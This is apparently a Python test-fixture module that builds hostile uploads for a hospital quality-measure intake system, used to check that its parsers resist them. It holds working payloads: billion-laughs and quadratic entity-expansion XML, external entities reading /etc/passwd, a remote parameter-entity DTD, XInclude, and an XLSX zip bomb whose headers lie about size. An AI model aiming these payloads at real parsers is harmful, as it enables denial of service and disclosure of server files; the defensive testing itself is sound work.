"""Hostile uploads, generated at test time (nothing binary is committed).

Large files are streamed to disk in blocks, so writing a 300 MB case costs a few hundred
milliseconds and little memory. Workbooks start from a real one in the shipped examples and have
parts added, replaced or their ZIP directory rewritten.
"""

from __future__ import annotations

import io
import re
import shutil
import struct
import zipfile
import zlib
from collections.abc import Iterable
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / "plugins" / "hospital"
CART_VALID = EXAMPLES / "cart/examples/2015/CART/summary/valid/cart-2015q1-pps.xml"
XLSX_VALID = EXAMPLES / "edtc/examples/2015/EDTC/summary/valid/edtc-2015q1-full.xlsx"
CSV_VALID = EXAMPLES / "edtc/examples/2015/EDTC/summary/valid/edtc-2015q1-full.csv"
CART_NS = "urn:mn-sqrms:cart:1"
CART_HEADER = ('<?xml version="1.0" encoding="UTF-8"?>\n'
               f'<hospital-measures xmlns="{CART_NS}">\n'
               "  <provider-id>240001</provider-id>\n  <reporting-year>2015</reporting-year>\n"
               "  <discharge-quarter>2015Q1</discharge-quarter>\n")
MIB = 1024 * 1024


def stream(path: Path, parts: Iterable[bytes | str]) -> Path:
    """Write ``parts`` (text is UTF-8) one after another."""
    with path.open("wb") as out:
        for part in parts:
            out.write(part.encode("utf-8") if isinstance(part, str) else part)
    return path


def repeated(unit: bytes | str, count: int, block: int = 10_000) -> Iterable[bytes | str]:
    """``unit`` ``count`` times, in blocks of ``block`` copies."""
    for _ in range(count // block):
        yield unit * block
    yield unit * (count % block)


# -- XML -------------------------------------------------------------------------------------

def cart_with_prolog(prolog: str, body: str = "&x;") -> str:
    """A CART-looking file with ``prolog`` (a DTD) before the root and ``body`` in a header."""
    return ('<?xml version="1.0" encoding="UTF-8"?>\n' + prolog +
            f'\n<hospital-measures xmlns="{CART_NS}"><provider-id>{body}</provider-id>'
            "</hospital-measures>\n")


BILLION_LAUGHS = cart_with_prolog(
    '<!DOCTYPE hospital-measures [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
    + "]>", "&j;")
QUADRATIC = cart_with_prolog(f'<!DOCTYPE hospital-measures [<!ENTITY x "{"A" * 100_000}">]>',
                             "&x;" * 20_000)
EXTERNAL_ENTITY = cart_with_prolog(
    '<!DOCTYPE hospital-measures [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
PARAMETER_ENTITY = cart_with_prolog(
    '<!DOCTYPE hospital-measures [<!ENTITY % p SYSTEM "http://127.0.0.1:9/evil.dtd"> %p;]>',
    "240001")
XINCLUDE = (f'<?xml version="1.0" encoding="UTF-8"?>\n<hospital-measures xmlns="{CART_NS}" '
            'xmlns:xi="http://www.w3.org/2001/XInclude">\n'
            '  <xi:include href="header.xml" parse="xml"/>\n'
            '  <measure id="IMM-2"><denominator>210</denominator><numerator>189</numerator>'
            '<rate>90.0</rate></measure>\n</hospital-measures>\n')


def xml_text_node(path: Path, megabytes: int) -> Path:
    """A CART file whose provider id is one text of ``megabytes`` MiB."""
    return stream(path, [f'<?xml version="1.0"?>\n<hospital-measures xmlns="{CART_NS}">'
                         "<provider-id>", *repeated(b"7" * MIB, megabytes, 16),
                         "</provider-id></hospital-measures>\n"])


def xml_elements(path: Path, count: int) -> Path:
    """A CART file with ``count`` empty ``<measure/>`` elements (11 bytes each)."""
    return stream(path, [CART_HEADER, *repeated("<measure/>\n", count),
                         "</hospital-measures>\n"])


def xml_nested(path: Path, depth: int) -> Path:
    return stream(path, [f'<hospital-measures xmlns="{CART_NS}">',
                         *repeated("<measure>", depth), *repeated("</measure>", depth),
                         "</hospital-measures>"])


# -- CSV -------------------------------------------------------------------------------------

def csv_long_line(path: Path, megabytes: int) -> Path:
    """The valid example's header, then a line of ``megabytes`` MiB in one unquoted cell."""
    header = CSV_VALID.read_text(encoding="utf-8").splitlines()[0]
    return stream(path, [header + "\n", *repeated(b"x" * MIB, megabytes, 16), b"\n"])


def csv_open_quote(path: Path, megabytes: int) -> Path:
    """A quote that is never closed, over ``megabytes`` MiB of short lines."""
    lines = CSV_VALID.read_text(encoding="utf-8").splitlines()
    return stream(path, [lines[0] + "\n" + lines[1] + '\n"never closed,',
                         *repeated(b"abcdefghij" * 10 + b"\n", megabytes * MIB // 101)])


# -- XLSX ------------------------------------------------------------------------------------

def rebuilt_workbook(path: Path, replace: dict[str, bytes] | None = None,
                     add: dict[str, bytes] | None = None, source: Path = XLSX_VALID) -> Path:
    """The example workbook with parts replaced or added (deflated, honest directory)."""
    replace, add = replace or {}, add or {}
    with zipfile.ZipFile(source) as original, \
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in original.infolist():
            out.writestr(info.filename, replace.get(info.filename, original.read(info)))
        for name, data in add.items():
            out.writestr(name, data)
    return path


def workbook_part(name: str, source: Path = XLSX_VALID) -> bytes:
    with zipfile.ZipFile(source) as archive:
        return archive.read(name)


def with_doctype(xml: bytes) -> bytes:
    """``xml`` with an external entity declared in a DTD before its root element."""
    doctype = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    if xml.startswith(b"<?xml"):
        head, _, rest = xml.partition(b"?>")
        return head + b"?>" + doctype + rest
    return doctype + xml


def shared_strings_workbook(path: Path, doctype: bool = False) -> Path:
    """The example workbook with its header texts moved into a shared-strings part, as Excel
    saves text; with ``doctype`` that part declares an entity and uses it."""
    sheet_name = _first_sheet(zipfile.ZipFile(XLSX_VALID))
    sheet = workbook_part(sheet_name)
    texts: list[bytes] = []

    def shared(match: re.Match[bytes]) -> bytes:
        texts.append(match.group(2))
        return b'<c r="%s" t="s"><v>%d</v></c>' % (match.group(1), len(texts) - 1)

    sheet = re.sub(rb'<c r="([A-Z]+1)" t="inlineStr"><is><t>([^<]*)</t></is></c>', shared, sheet)
    entity = b"&e;" if doctype else b""
    strings = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://'
               b'schemas.openxmlformats.org/spreadsheetml/2006/main">'
               + b"".join(b"<si><t>%s%s</t></si>" % (t, entity) for t in texts) + b"</sst>")
    rels = workbook_part("xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>", b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
        b"</Relationships>")
    types = workbook_part("[Content_Types].xml").replace(
        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    return rebuilt_workbook(path, replace={sheet_name: sheet, "[Content_Types].xml": types,
                                           "xl/_rels/workbook.xml.rels": rels},
                            add={"xl/sharedStrings.xml": with_doctype(strings) if doctype
                                 else strings})


def sheet_xml(rows: Iterable[bytes]) -> Iterable[bytes]:
    yield (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns='
           b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
    yield from rows
    yield b"</sheetData></worksheet>"


def workbook_with_sheet(path: Path, sheet: Iterable[bytes]) -> Path:
    """The example workbook with its first sheet replaced by ``sheet``, streamed."""
    with zipfile.ZipFile(XLSX_VALID) as original, \
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as out:
        first = _first_sheet(original)
        for info in original.infolist():
            if info.filename == first:
                with out.open(first, "w", force_zip64=True) as part:
                    for block in sheet:
                        part.write(block)
            else:
                out.writestr(info.filename, original.read(info))
    return path


def _first_sheet(archive: zipfile.ZipFile) -> str:
    return sorted(n for n in archive.namelist() if n.startswith("xl/worksheets/sheet"))[0]


def zip_bomb(path: Path, megabytes: int, lie: bool) -> Path:
    """The example workbook whose first sheet is padded with ``megabytes`` MiB of spaces, which
    deflate about 1000 to 1. With ``lie`` the directory and local header declare the original
    sheet's size instead, as a bomb that fools size checks would."""
    with zipfile.ZipFile(XLSX_VALID) as original:
        first = _first_sheet(original)
        sheet = original.read(first)
    head, _, rest = sheet.partition(b"<sheetData>")
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = io.BytesIO()
    crc = zlib.crc32(head + b"<sheetData>")
    raw.write(deflater.compress(head + b"<sheetData>"))
    pad = b" " * MIB
    for _ in range(megabytes):
        raw.write(deflater.compress(pad))
        crc = zlib.crc32(pad, crc)
    raw.write(deflater.compress(rest))
    crc = zlib.crc32(rest, crc)
    raw.write(deflater.flush())
    size = len(head) + len(rest) + 11 + megabytes * MIB
    declared = len(sheet) if lie else size
    rebuilt_workbook(path, replace={first: b"PLACEHOLDER"})
    return _swap_member(path, first, raw.getvalue(), declared, crc if not lie else
                        zlib.crc32(sheet))


def _swap_member(path: Path, name: str, deflated: bytes, declared: int, crc: int) -> Path:
    """Rewrite ``path`` with member ``name`` holding ``deflated`` and declaring ``declared``
    bytes (ZIP32 records written by hand, so the declaration can be anything)."""
    with zipfile.ZipFile(path) as archive:
        members = [(i.filename, archive.read(i)) for i in archive.infolist()]
    out = io.BytesIO()
    directory = []
    for member, data in members:
        if member == name:
            body, method, size, check = deflated, 8, declared, crc
        else:
            body, method, size, check = zlib.compress(data, 6)[2:-4], 8, len(data), \
                zlib.crc32(data)
        encoded = member.encode()
        offset = out.tell()
        out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0x21, check,
                              len(body), size, len(encoded), 0) + encoded + body)
        directory.append(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method, 0,
                                     0x21, check, len(body), size, len(encoded), 0, 0, 0, 0, 0,
                                     offset) + encoded)
    start = out.tell()
    for entry in directory:
        out.write(entry)
    out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(directory), len(directory),
                          out.tell() - start, start, 0))
    path.write_bytes(out.getvalue())
    return path


def encrypted_workbook(path: Path) -> Path:
    """The example workbook saved with a password, as Excel does (an OLE file holding an
    ``EncryptedPackage`` stream), by msoffcrypto-tool's ECMA-376 agile encryption."""
    from msoffcrypto.format.ooxml import OOXMLFile

    with XLSX_VALID.open("rb") as plain, path.open("wb") as out:
        OOXMLFile(plain).encrypt("secret", out)
    return path


def ole_file(path: Path, stream: str, data: bytes) -> Path:
    """A minimal OLE compound file (version 3, 512-byte sectors) holding one ``stream``: the
    container of Excel 97-2003 workbooks (stream ``Workbook``) and of encrypted ones."""
    free, end, fat_sector, none = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    data = data.ljust(max(len(data), 4096), b"\0")  # at the cutoff: a regular stream
    sectors = -(-len(data) // 512)
    fat = [fat_sector, end, *range(3, 2 + sectors), end]
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
              + struct.pack("<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 0x1000, end,
                            0, end, 0)
              + struct.pack("<109I", 0, *[free] * 108))

    def entry(name: str, kind: int, child: int, start: int, size: int) -> bytes:
        encoded = (name + "\0").encode("utf-16-le") if name else b""
        return (encoded.ljust(64, b"\0") + struct.pack("<HBBIII", len(encoded), kind, 1, none,
                                                       none, child)
                + bytes(16 + 4 + 16) + struct.pack("<IQ", start, size))

    directory = (entry("Root Entry", 5, 1, end, 0) + entry(stream, 2, none, 2, len(data))
                 + entry("", 0, none, 0, 0) * 2)
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat).ljust(512, b"\xff")
    path.write_bytes(header + fat_bytes + directory + data.ljust(sectors * 512, b"\0"))
    return path


def copy_as(source: Path, path: Path) -> Path:
    shutil.copyfile(source, path)
    return path
